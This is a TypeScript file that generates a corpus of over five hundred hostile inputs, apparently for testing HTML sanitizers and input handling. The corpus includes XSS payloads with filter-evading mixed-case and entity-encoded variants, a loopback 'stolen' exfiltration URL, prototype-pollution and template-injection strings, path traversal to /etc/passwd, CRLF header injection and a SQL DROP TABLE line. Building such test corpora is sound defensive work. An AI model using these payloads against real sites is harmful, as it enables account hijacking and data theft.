/**
 * What somebody says, or is called, who wants a script of theirs to run in the page of another:
 * made of ways out of where words stand, ways to run, and names that mean something to a program.
 * Each one that runs calls `ran` with its number, or opens a dialog, or asks another host.
 */

/** Loopback, so that nothing leaves the machine if one of them works. */
export const ELSEWHERE = 'http://127.0.0.1:9/stolen';

/** Ways out of text, attributes, styles, scripts, comments and templates. */
const EXITS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '{{',
  '${',
  '\u2028',
  '\\u003c',
];

/** Ways to run a script, each with a place for the call. */
const RUNNERS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<svg onload="${call}"></svg>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s></svg>`,
  (call) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
  (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus>click</a>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<details open ontoggle="${call}"><summary>x</summary></details>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}"></audio>`,
  (call) => `<body onload="${call}" onpageshow="${call}">`,
  (call) => `<style>@import "data:text/css,*{background:url(${ELSEWHERE})}"</style><i>${call}</i>`,
  (call) => `<div style="background:url('${ELSEWHERE}');animation:x" onanimationstart="${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,x" onload="${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="${ELSEWHERE}/"><script src=x></script><i>${call}</i>`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<template shadowrootmode=open><img src=x onerror="${call}"></template>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<img src="${ELSEWHERE}?${encodeURIComponent(call)}">`,
  (call) => `<portal src="${ELSEWHERE}"></portal><fencedframe></fencedframe><i>${call}</i>`,
];

/** Words that a careless program takes for something of its own. */
const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"ran":1}}}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '{{constructor.constructor("ran(0)")()}}',
  `$\{ran(0)}`,
  '$t(app.title)',
  '$t(fault.trace, {"traceId": "x"})',
  '{{- name}}',
  '%s%s%n',
  '\u0000',
  '\u202Egnp.exe',
  '\u200B\u200C\u200D\uFEFF',
  '\uD83D',
  'A\u0301'.repeat(200),
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'.repeat(50),
  '../../../../etc/passwd',
  '..\\..\\boot.ini',
  'CON',
  'file.html\u0000.png',
  'a\r\nSet-Cookie: x=y',
  `'; DROP TABLE users; --`,
];

/** At least five hundred, none longer than can be said. */
export const hostileWords: readonly string[] = [
  ...EXITS.flatMap((exit) => RUNNERS.map((run) => ({ exit, run }))).map(
    ({ exit, run }, number) => exit + run(`ran(${number})`),
  ),
  ...RUNNERS.map((run, number) => mixedCase(run(`ran(${1_000 + number})`))),
  ...RUNNERS.map((run, number) => run(`ran&#40;${2_000 + number}&#41;`)),
  ...RUNNERS.map((run, number) => run(`alert(${3_000 + number})`)),
  ...RUNNERS.map((run, number) => run(`window['r'+'an'](${4_000 + number})`).repeat(3)),
  ...NAMES,
  ...NAMES.map((name) => `<b id="${name}">${name}</b>`),
];

/** As filters for one spelling do not see it. */
function mixedCase(text: string): string {
  return [...text].map((char, at) => (at % 2 === 0 ? char.toUpperCase() : char)).join('');
}
